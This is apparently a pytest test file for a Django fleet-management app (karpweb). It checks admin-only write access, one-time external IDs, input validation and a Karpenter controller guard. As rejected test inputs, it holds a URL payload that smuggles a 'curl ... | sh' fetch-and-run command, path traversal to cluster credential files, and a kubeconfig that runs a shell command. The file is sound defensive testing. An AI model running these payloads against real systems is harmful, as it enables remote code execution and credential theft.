"""The fleet's configuration is an administrator's (issue: the fleet's trust boundary): who may write
accounts and clusters, the external ID karpweb makes and shows once, what an endpoint, a kubeconfig
path and an interruption queue may be, and the one-controller guard on every path that writes a
cluster's `karpenter` and `mode`."""

import pytest
from django.urls import reverse

from fleet.models import AwsAccount, Cluster
from fleet.scope import cluster_scope
from scheduling.models import AuditEntry, ControllerGuard

pytestmark = pytest.mark.django_db

PAYLOAD = "https://ABCD.gr7.us-east-1.eks.amazonaws.com/'$(curl${IFS}-s${IFS}http://203.0.113.9/x|sh)'"


# --- who writes --------------------------------------------------------------------------------

def test_an_operator_may_not_write_accounts_or_clusters(as_operator, make_cluster):
    prod = make_cluster("prod")
    cases = [as_operator.post("/api/v1/accounts/", {"accountID": "222222222222", "name": "x"}, format="json"),
             as_operator.patch("/api/v1/accounts/111111111111/", {"roleARN": ""}, format="json"),
             as_operator.post("/api/v1/clusters/", {"name": "new", "account": "111111111111"}, format="json"),
             as_operator.patch(f"/api/v1/clusters/{prod.name}/", {"connection": "in-cluster"}, format="json"),
             as_operator.patch(f"/api/v1/clusters/{prod.name}/", {"shard": "b"}, format="json"),
             as_operator.post("/api/v1/accounts/111111111111/external-id/")]
    assert [r.status_code for r in cases] == [403] * 6
    assert "fleet administrators" in cases[0].json()["detail"]
    prod.refresh_from_db()
    assert (prod.connection, prod.shard) == ("simulated", "default")


def test_a_fleet_admin_writes_them(as_fleet_admin, make_cluster):
    prod = make_cluster("prod")
    changed = as_fleet_admin.patch(f"/api/v1/clusters/{prod.name}/", {"shard": "b"}, format="json")
    assert changed.status_code == 200, changed.json()
    assert Cluster.objects.get(name="prod").shard == "b"


def test_staff_without_the_role_only_look_in_the_admin(client, operator, fleet_admin, make_cluster):
    from django.contrib.auth.models import Permission

    prod = make_cluster("prod")
    perms = Permission.objects.filter(content_type__app_label="fleet")
    for user in (operator, fleet_admin):
        user.is_staff = True
        user.save()
        user.user_permissions.set(perms)
    url = reverse("admin:fleet_cluster_change", args=[prod.pk])
    client.force_login(operator)
    page = client.get(url)
    assert page.status_code == 200 and not page.context["has_change_permission"]
    assert client.post(url, {"name": "prod", "account": prod.account_id, "connection": "in-cluster"}).status_code == 403
    assert client.get(reverse("admin:fleet_awsaccount_add")).status_code == 403
    client.force_login(fleet_admin)
    assert client.get(url).context["has_change_permission"]


# --- the external ID ---------------------------------------------------------------------------

def test_karpweb_makes_the_external_id_and_shows_it_once(as_fleet_admin, as_viewer):
    refused = as_fleet_admin.post("/api/v1/accounts/", {"accountID": "333333333333", "name": "ml",
                                                        "externalID": "mine"}, format="json")
    assert refused.status_code == 400 and "externalID" in refused.json()
    made = as_fleet_admin.post("/api/v1/accounts/", {"accountID": "333333333333", "name": "ml",
                                                     "roleARN": "arn:aws:iam::333333333333:role/karpweb"}, format="json")
    assert made.status_code == 201, made.json()
    shown = made.json()["externalID"]
    account = AwsAccount.objects.get(account_id="333333333333")
    assert shown == account.external_id and len(shown) >= 32
    for client in (as_fleet_admin, as_viewer):
        for url in ("/api/v1/accounts/333333333333/", "/api/v1/accounts/"):
            body = client.get(url).content.decode()
            assert "externalID" not in body and shown not in body
    other = AwsAccount.objects.create(account_id="444444444444", name="other")
    assert other.external_id and other.external_id != shown  # one per account

    again = as_fleet_admin.post("/api/v1/accounts/333333333333/external-id/")
    assert again.status_code == 200 and again.json()["externalID"] not in ("", shown)
    account.refresh_from_db()
    assert account.external_id == again.json()["externalID"]
    entries = AuditEntry.objects.filter(object_repr__contains="333333333333")
    assert entries.count() == 2 and not any(account.external_id in str(e.changes) or shown in str(e.changes)
                                            for e in entries)


def test_the_admin_shows_the_external_id_once_on_add(admin_user_client):
    added = admin_user_client.post(reverse("admin:fleet_awsaccount_add"), {
        "account_id": "555555555555", "name": "five", "role_arn": "", "regions": "[]",
        "clusters-TOTAL_FORMS": "0", "clusters-INITIAL_FORMS": "0"}, follow=True)
    account = AwsAccount.objects.get(account_id="555555555555")
    assert account.external_id in added.content.decode()
    page = admin_user_client.get(reverse("admin:fleet_awsaccount_change", args=[account.pk])).content.decode()
    assert account.external_id not in page


# --- what may be typed -------------------------------------------------------------------------

@pytest.mark.parametrize("value, says", [
    (PAYLOAD, "may hold only"),
    ("http://api.example", "must start with https://"),
    ("https://user@api.example", "may hold only"),
    ("https://api.example/path", "no path"),
    ("https://api.example?x=1", "may hold only"),
    ("https://api.example:99999", "is not a URL"),
    ("https://-bad-.example", "is not a DNS name"),
])
def test_an_endpoint_is_https_and_a_host_only(as_fleet_admin, make_cluster, value, says):
    prod = make_cluster("prod")
    refused = as_fleet_admin.patch(f"/api/v1/clusters/{prod.name}/", {"endpoint": value}, format="json")
    assert refused.status_code == 400 and list(refused.json()) == ["endpoint"], refused.json()
    assert says in refused.json()["endpoint"][0]
    accepted = as_fleet_admin.patch(f"/api/v1/clusters/{prod.name}/", {"endpoint": "https://10.0.0.1:6443"},
                                    format="json")
    assert accepted.status_code == 200, accepted.json()


def test_the_cluster_endpoint_setting_is_checked_at_start(tmp_path):
    import os
    import subprocess
    import sys

    env = {**os.environ, "KARPWEB_CLUSTER_ENDPOINT": PAYLOAD, "DJANGO_SETTINGS_MODULE": "karpweb.settings"}
    ran = subprocess.run([sys.executable, "-c", "import django; django.setup()"], env=env, capture_output=True,
                         text=True)
    assert ran.returncode != 0 and "KARPWEB_CLUSTER_ENDPOINT=" in ran.stderr and "ImproperlyConfigured" in ran.stderr


def test_a_kubeconfig_path_stays_in_its_directory(as_fleet_admin, make_cluster, settings, tmp_path):
    prod = make_cluster("prod")
    settings.KARPWEB_KUBECONFIG_DIR = str(tmp_path)
    inside = tmp_path / "prod.yaml"

    def patch(value):
        return as_fleet_admin.patch(f"/api/v1/clusters/{prod.name}/", {"connection": "kubeconfig", "kubeconfig": value},
                                    format="json")

    assert patch(str(inside)).status_code == 200
    for value, says in ((f"{tmp_path}/../../etc/kubernetes/admin.conf", "outside KARPWEB_KUBECONFIG_DIR"),
                        ("/root/.kube/config", "outside KARPWEB_KUBECONFIG_DIR"), ("relative/config", "not an absolute"),
                        ("secret:Bad/Name", "not a Secret reference")):
        refused = patch(value)
        assert refused.status_code == 400 and says in refused.json()["kubeconfig"][0], refused.json()
    assert patch("secret:karpweb/prod-kubeconfig").status_code == 200
    settings.KARPWEB_KUBECONFIG_DIR = ""
    refused = patch(str(inside))
    assert refused.status_code == 400 and "KARPWEB_KUBECONFIG_DIR names no directory" in refused.json()["kubeconfig"][0]


def test_a_kubeconfig_that_runs_a_command_is_refused(make_cluster, settings, tmp_path):
    import yaml

    from scheduling.adapters.kube.clusters import adapter_for
    from scheduling.adapters.kube.config import ClusterConfigError

    settings.KARPWEB_KUBECONFIG_DIR = str(tmp_path)
    path = tmp_path / "exec.yaml"
    path.write_text(yaml.safe_dump({
        "apiVersion": "v1", "kind": "Config", "current-context": "c",
        "clusters": [{"name": "c", "cluster": {"server": "https://127.0.0.1:1"}}],
        "contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
        "users": [{"name": "u", "user": {"exec": {"apiVersion": "client.authentication.k8s.io/v1", "command": "sh",
                                                  "args": ["-c", f"touch {tmp_path}/ran"]}}}]}))
    prod = make_cluster("prod", connection="kubeconfig", kubeconfig=str(path))
    with pytest.raises(ClusterConfigError, match="runs a command"):
        adapter_for(prod)
    assert not (tmp_path / "ran").exists()


@pytest.mark.parametrize("queue, says", [
    ("https://sqs.us-east-1.amazonaws.com/999999999999/interruptions", "not the cluster's account"),
    ("https://sqs.eu-west-1.amazonaws.com/111111111111/interruptions", "not the cluster's region"),
    ("https://evil.example/111111111111/interruptions", "is not an https:// URL of SQS"),
])
def test_the_interruption_queue_is_in_the_clusters_account_and_region(as_fleet_admin, make_cluster, queue, says):
    prod = make_cluster("prod", region="us-east-1")
    refused = as_fleet_admin.patch(f"/api/v1/clusters/{prod.name}/", {"interruptionQueue": queue}, format="json")
    assert refused.status_code == 400 and says in refused.json()["interruptionQueue"][0], refused.json()
    for fine in ("prod-interruptions", "https://sqs.us-east-1.amazonaws.com/111111111111/prod-interruptions"):
        assert as_fleet_admin.patch(f"/api/v1/clusters/{prod.name}/", {"interruptionQueue": fine},
                                    format="json").status_code == 200


# --- the one-controller guard on every path ----------------------------------------------------

def karpenter_runs_in(cluster):
    with cluster_scope(cluster):
        ControllerGuard.current()
        ControllerGuard.objects.filter(cluster=cluster).update(karpenter_live=True, reason="its Lease is held")


@pytest.mark.parametrize("change", [{"mode": "control"}, {"karpenter": "absent"}, {"karpenter": "auto"}])
def test_the_api_refuses_a_change_that_would_control_beside_karpenter(as_fleet_admin, make_cluster, change):
    prod = make_cluster("prod", karpenter="present", mode="observe")
    karpenter_runs_in(prod)
    refused = as_fleet_admin.patch(f"/api/v1/clusters/{prod.name}/", change, format="json")
    assert refused.status_code == 409 and "Karpenter runs in cluster prod" in refused.json()["detail"]
    prod.refresh_from_db()
    assert (prod.karpenter, prod.mode) == ("present", "observe")


def test_a_change_toward_observe_is_taken_while_karpenter_runs(as_fleet_admin, make_cluster):
    prod = make_cluster("prod", karpenter="auto", mode="control")
    karpenter_runs_in(prod)
    taken = as_fleet_admin.patch(f"/api/v1/clusters/{prod.name}/", {"mode": "observe", "karpenter": "present"},
                                 format="json")
    assert taken.status_code == 200, taken.json()


def test_the_admin_refuses_it_too(admin_user_client, make_cluster):
    prod = make_cluster("prod", karpenter="present", mode="observe")
    karpenter_runs_in(prod)
    url = reverse("admin:fleet_cluster_change", args=[prod.pk])
    form = admin_user_client.get(url).context["adminform"].form
    data = {name: form.initial.get(name) or "" for name in form.fields}
    data.update(account=prod.account_id, karpenter="absent", mode="control")
    refused = admin_user_client.post(url, data)
    assert refused.status_code == 200
    assert "Karpenter runs in cluster prod" in str(refused.context["adminform"].form.non_field_errors())
    prod.refresh_from_db()
    assert (prod.karpenter, prod.mode) == ("present", "observe")


def test_unflagging_the_default_is_taken_and_no_process_keeps_a_rolled_back_list(as_fleet_admin, two_clusters):
    """It answered 500 (its audit became a decision needing the default) and left the cluster list
    read inside the rolled-back transaction kept for a minute: every request then answered 500."""
    from django.db import transaction

    from fleet import scope

    home, _east, _west = two_clusters
    Cluster.objects.filter(pk=home.pk).update(is_default=True)
    scope.forget_default()
    answer = as_fleet_admin.patch(f"/api/v1/clusters/{home.name}/", {"isDefault": False}, format="json")
    assert answer.status_code == 200, answer.content
    assert as_fleet_admin.get("/api/v1/clusters/").status_code == 200
    Cluster.objects.filter(pk=home.pk).update(is_default=True)
    scope.forget_default()
    home.refresh_from_db()
    with pytest.raises(RuntimeError), transaction.atomic():
        home.is_default = False
        home.save()  # its signal forgets the kept list, as the API's save did
        assert not any(c.is_default for c in scope.fleet_clusters())
        raise RuntimeError("rolled back")
    assert scope.default_cluster().pk == home.pk  # the list read inside the transaction was not kept


def test_nul_and_lone_surrogates_are_refused_with_a_4xx(as_fleet_admin, client):
    """They answered 500 on PostgreSQL: a lone surrogate in a JSON body, NUL in a path."""
    body = '{"accountID": "\\ud800", "name": "x", "roleARN": "arn:aws:iam::123456789012:role/\\udfff"}'
    refused = as_fleet_admin.post("/api/v1/accounts/", body, content_type="application/json")
    assert refused.status_code == 400 and "lone surrogate" in refused.json()["detail"]
    assert as_fleet_admin.get("/api/v1/capacity-reservations/%00/uses/").status_code == 404
